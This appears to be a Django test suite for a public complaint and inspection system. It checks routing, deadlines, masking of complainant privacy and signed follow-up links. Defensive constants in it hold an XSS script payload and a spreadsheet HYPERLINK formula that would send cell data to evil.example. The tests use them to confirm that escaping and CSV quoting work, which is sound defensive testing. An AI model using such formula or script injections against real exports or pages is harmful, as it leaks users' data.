"""Complaints (投诉举报): from the public form to a complaint-triggered inspection, the complainant seen by the
handling department only (API, admin, exports), deadlines and replies, guidance offered instead, and what a
stranger typed kept as text everywhere."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core import signing
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client
from django.utils import timezone

from inspections import services as inspection_services
from inspections.models import Complaint, ComplaintCategory, ComplaintRoute, Inspection, PlanEntry
from inspections.selectors import inspection_indicators
from inspections.services import complaints as services
from programs.models import AuditEntry, Notification, User
from tests.factories import EnterpriseFactory, UserFactory, officer
from tests.inspections.factories import ItemFactory, PlanEntryFactory

pytestmark = pytest.mark.django_db

NAME, PHONE = "王秀英", "13812345678"
SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def routes(cast):
    """Fumes and internet cafés go to the county's market supervision; anything else too (the ``other`` route)."""
    for category in (ComplaintCategory.FUMES, ComplaintCategory.INTERNET_CAFE, ComplaintCategory.OTHER):
        ComplaintRoute.objects.create(category=category, region=cast.county, department=cast.market, reply_days=7)
    return cast


def public_form(cast, **changes):
    data = {
        "category": "fumes",
        "region": str(cast.regions["town"].pk),
        "address": "鄞州区一街道幸福路12号",
        "business_name": "老张烧烤",
        "description": "店铺油烟直排，楼上住户无法开窗。",
        "complainant_name": NAME,
        "complainant_phone": PHONE,
        "submission_key": "k-1",
    }
    return {**data, **changes}


def file(cast, **changes) -> Complaint:
    data = public_form(cast, **changes)
    data["region"] = cast.regions["town"]
    data.pop("submission_key")
    return services.complaint_file(**data)


def test_a_complaint_from_the_public_form_leads_to_a_complaint_triggered_inspection(routes, client, api_as):
    cast = routes
    answer = client.post("/complaints/new/", public_form(cast))
    assert answer.status_code == 302
    follow = answer["Location"]
    complaint = Complaint.objects.get()
    assert (complaint.department, complaint.status, complaint.channel) == (cast.market, "received", "web")
    assert complaint.reply_due_at - complaint.created_at == timedelta(days=7)
    page = client.get(follow)
    assert complaint.reference in page.content.decode() and NAME not in page.content.decode()
    sms = Notification.objects.get(dedupe_key=f"inspections:complaint:{complaint.pk}:filed:sms")
    assert sms.address == PHONE and complaint.reference in sms.body and "/complaints/follow/" in sms.body
    assert Notification.objects.filter(dedupe_key__startswith=f"inspections:complaint:{complaint.pk}:new:").exists()
    # The same form sent twice files one complaint.
    assert client.post("/complaints/new/", public_form(cast)).status_code == 302
    assert Complaint.objects.count() == 1

    handler = api_as(cast.market_officer)
    assert handler.post(f"/api/v1/complaints/{complaint.pk}/acknowledge/").json()["status"] == "acknowledged"
    refused = handler.post(f"/api/v1/complaints/{complaint.pk}/open-inspection/", {}, format="json")
    assert refused.status_code == 400 and refused.json()["error"]["code"] == "required"
    handler.post(
        f"/api/v1/complaints/{complaint.pk}/link-enterprise/", {"enterprise": cast.enterprise.pk}, format="json"
    )
    opened = handler.post(f"/api/v1/complaints/{complaint.pk}/open-inspection/", {}, format="json")
    assert opened.status_code == 200, opened.content
    inspection = Inspection.objects.get(pk=opened.json()["inspection"])
    assert (inspection.origin, inspection.status, inspection.lead_department) == ("complaint", "planned", cast.market)
    assert AuditEntry.objects.filter(object_id=inspection.pk, action="inspection.open_unplanned").exists()
    replied = handler.post(
        f"/api/v1/complaints/{complaint.pk}/reply/", {"reply": "已立案检查，责令安装油烟净化设施。"}, format="json"
    )
    assert replied.json()["status"] == "replied" and replied.json()["replied_on_time"] is True
    assert "已立案检查" in client.get(follow).content.decode()

    # The plan's coordination of the month neither grows nor counts it: a planned entry gets its own visit.
    month = timezone.localdate().replace(day=1)
    PlanEntryFactory(department=cast.market, enterprise=cast.enterprise, month=month, actor=cast.market_officer)
    inspection_services.month_coordinate(region=cast.county, month=month, actor=cast.coordinator)
    entry = PlanEntry.objects.get()
    assert entry.status == "executed", (entry.status, entry.cut_reason, entry.cut_note)
    assert entry.inspection_id != inspection.pk and entry.inspection.origin == "plan"
    today = timezone.localdate()
    figures = inspection_indicators(user=cast.coordinator, start=today.replace(day=1), end=today)
    assert figures["plan_entries"]["submitted"] == figures["plan_entries"]["executed"] == 1
    assert figures["complaints"]["triggered_inspections"] == 1
    assert figures["complaints"]["complaints"] == figures["complaints"]["replied_on_time"] == 1


def test_the_complainant_is_seen_by_the_handling_department_only(routes, client, api_as):
    cast = routes
    complaint = file(cast, business_name=FORMULA)
    colleague = officer(cast.market)
    full = api_as(colleague).get(f"/api/v1/complaints/{complaint.pk}/").json()
    assert (full["complainant_name"], full["complainant_phone"]) == (NAME, PHONE)
    # Another department does not even see the complaint; the coordinator and the grid worker see it masked.
    assert api_as(cast.fire_officer).get(f"/api/v1/complaints/{complaint.pk}/").status_code == 404
    for user in (cast.coordinator, UserFactory(role=User.Role.GRID_WORKER, region=cast.county)):
        body = api_as(user).get(f"/api/v1/complaints/{complaint.pk}/").content.decode()
        listed = api_as(user).get("/api/v1/complaints/").content.decode()
        assert PHONE not in body + listed and NAME not in body + listed
        assert "138****5678" in body and "王**" in body
        client.force_login(user)
        page = client.get(f"/admin/inspections/complaint/{complaint.pk}/change/").content.decode()
        assert page and PHONE not in page and NAME not in page and "138****5678" in page
        for fmt in ("csv", "xlsx"):
            export = client.get(f"/admin/inspections/complaint/?_export={fmt}")
            content = b"".join(export.streaming_content) if export.streaming else export.content
            assert PHONE.encode() not in content and NAME.encode() not in content
        assert client.get("/admin/inspections/complaint/", {"complainant_phone__startswith": "138"}).status_code == 400
    client.force_login(colleague)
    page = client.get(f"/admin/inspections/complaint/{complaint.pk}/change/").content.decode()
    assert PHONE in page and NAME in page


def test_only_the_handling_department_replies(routes):
    cast = routes
    complaint = file(cast)
    for outsider in (cast.fire_officer, cast.coordinator):
        with pytest.raises(PermissionDenied):
            services.complaint_reply(complaint=complaint, actor=outsider, reply="好")
    with pytest.raises(ValidationError) as empty:
        services.complaint_reply(complaint=complaint, actor=cast.market_officer, reply=" ")
    assert empty.value.error_dict["reply"][0].code == "required"


def test_bad_input_on_the_public_form_is_named_on_its_field(routes, client):
    cast = routes
    answer = client.post(
        "/complaints/new/", public_form(cast, complainant_phone="12345", description="", region="999999")
    )
    assert answer.status_code == 400
    form = answer.context["form"]
    assert set(form.errors) == {"complainant_phone", "description", "region"}
    assert form.errors.as_data()["complainant_phone"][0].code == "invalid_phone"
    html = answer.content.decode()
    assert 'id="id_complainant_phone_errors"' in html and 'href="#id_description_field"' in html
    assert not Complaint.objects.exists()


def test_a_category_no_route_covers_falls_back_to_other_and_none_at_all_is_refused(cast):
    with pytest.raises(ValidationError) as refused:
        file(cast)
    assert refused.value.error_dict["category"][0].code == "no_route"
    ComplaintRoute.objects.create(category=ComplaintCategory.OTHER, region=cast.county, department=cast.fire)
    ComplaintRoute.objects.create(category=ComplaintCategory.FUMES, region=cast.regions["town"], department=cast.market)
    assert file(cast).department == cast.market  # the street's own route is more specific
    assert file(cast, category="noise").department == cast.fire


def test_the_public_text_is_escaped_on_every_page_and_quoted_in_exports(routes, client):
    cast = routes
    complaint = file(cast, description=SCRIPT, address=SCRIPT, business_name=FORMULA, complainant_name=SCRIPT)
    token = services.complaint_token(complaint)
    pages = [(Client(), f"/complaints/follow/{token}/")]
    admin = Client()
    admin.force_login(cast.market_officer)
    pages += [(admin, f"/admin/inspections/complaint/{complaint.pk}/change/"), (admin, "/admin/inspections/complaint/")]
    for who, path in pages:
        html = who.get(path).content.decode()
        assert SCRIPT not in html, path
    assert "&lt;script&gt;" in Client().get(f"/complaints/follow/{token}/").content.decode()
    export = admin.get("/admin/inspections/complaint/?_export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8").lstrip("\ufeff"))))
    assert "'" + FORMULA in rows[1]
    sms = Notification.objects.get(dedupe_key=f"inspections:complaint:{complaint.pk}:filed:sms")
    assert SCRIPT not in sms.body  # the complainant's text never goes into the messages


def test_a_forged_or_altered_link_opens_nothing(routes, client):
    complaint = file(routes)
    token = services.complaint_token(complaint)
    assert client.get(f"/complaints/follow/{token[:-2]}xx/").status_code == 404
    forged = signing.dumps({"c": complaint.pk, "r": "TS000000XXXXX"}, salt=services.FOLLOW_SALT)
    assert client.get(f"/complaints/follow/{forged}/").status_code == 404


def test_guidance_offered_instead_tells_the_enterprise_with_the_booking_link(routes):
    cast = routes
    enterprise = EnterpriseFactory(region=cast.village, contact_phone="13900001111")
    complaint = file(cast, enterprise=enterprise)
    offered = services.complaint_offer_guidance(complaint=complaint, actor=cast.market_officer)
    assert offered.outcome == "guidance" and offered.inspection is None
    sms = Notification.objects.get(dedupe_key=f"inspections:complaint:{complaint.pk}:guidance-offer:sms")
    assert sms.address == "13900001111" and re.search(r"/guidance/$", sms.body)
    with pytest.raises(ValidationError) as twice:
        services.complaint_open_inspection(complaint=offered, actor=cast.market_officer)
    assert twice.value.error_dict["outcome"][0].code == "outcome_recorded"


def test_a_call_taken_by_phone_is_filed_by_staff_inside_their_area(routes, api_as):
    cast = routes
    item = ItemFactory(department=cast.market)
    body = {**public_form(cast), "region": cast.regions["town"].pk}
    body.pop("submission_key")
    answer = api_as(cast.coordinator).post("/api/v1/complaints/", body, format="json")
    assert answer.status_code == 201, answer.content
    complaint = Complaint.objects.get(pk=answer.json()["id"])
    assert complaint.channel == "phone" and complaint.created_by == cast.coordinator
    assert answer.json()["complainant_phone"] == "138****5678"  # the coordinator is not the handler
    assert api_as(cast.enterprise_user).get("/api/v1/complaints/").status_code == 403
    services.complaint_link_enterprise(complaint=complaint, enterprise=cast.enterprise, actor=cast.market_officer)
    done = services.complaint_open_inspection(complaint=complaint, actor=cast.market_officer, items=[item])
    assert list(done.inspection.items.all()) == [item]


def test_the_reminder_sweep_reminds_once_before_each_deadline(routes):
    cast = routes
    complaint = file(cast)
    now = timezone.now()
    assert services.complaint_reminders_send(now=now) == {"acknowledge": 0, "reply": 0}
    later = complaint.reply_due_at - timedelta(hours=12)
    assert services.complaint_reminders_send(now=later) == {"acknowledge": 1, "reply": 1}
    assert services.complaint_reminders_send(now=later) == {"acknowledge": 0, "reply": 0}
    reminders = Notification.objects.filter(dedupe_key__contains=":remind-", channel=Notification.Channel.IN_APP)
    keys = set(reminders.values_list("dedupe_key", flat=True))
    assert keys == {
        f"inspections:complaint:{complaint.pk}:remind-acknowledge:{cast.market_officer.pk}",
        f"inspections:complaint:{complaint.pk}:remind-reply:{cast.market_officer.pk}",
    }


def test_a_call_is_taken_in_the_admin_and_the_handler_acknowledges_it_there(routes, client):
    cast = routes
    client.force_login(cast.coordinator)
    form = {**public_form(cast)}
    form.pop("submission_key")
    answer = client.post("/admin/inspections/complaint/add/", {**form, "enterprise": ""})
    assert answer.status_code == 302, answer.content.decode()[answer.content.decode().find("errorlist") - 200 :][:1500]
    complaint = Complaint.objects.get()
    assert (complaint.channel, complaint.created_by, complaint.department) == ("phone", cast.coordinator, cast.market)
    client.force_login(cast.market_officer)
    client.post(
        "/admin/inspections/complaint/",
        {"action": "action_acknowledge", "_selected_action": [complaint.pk]},
    )
    complaint.refresh_from_db()
    assert complaint.status == "acknowledged"
    client.force_login(cast.fire_officer)
    assert client.get(f"/admin/inspections/complaint/{complaint.pk}/change/").status_code in (302, 404)
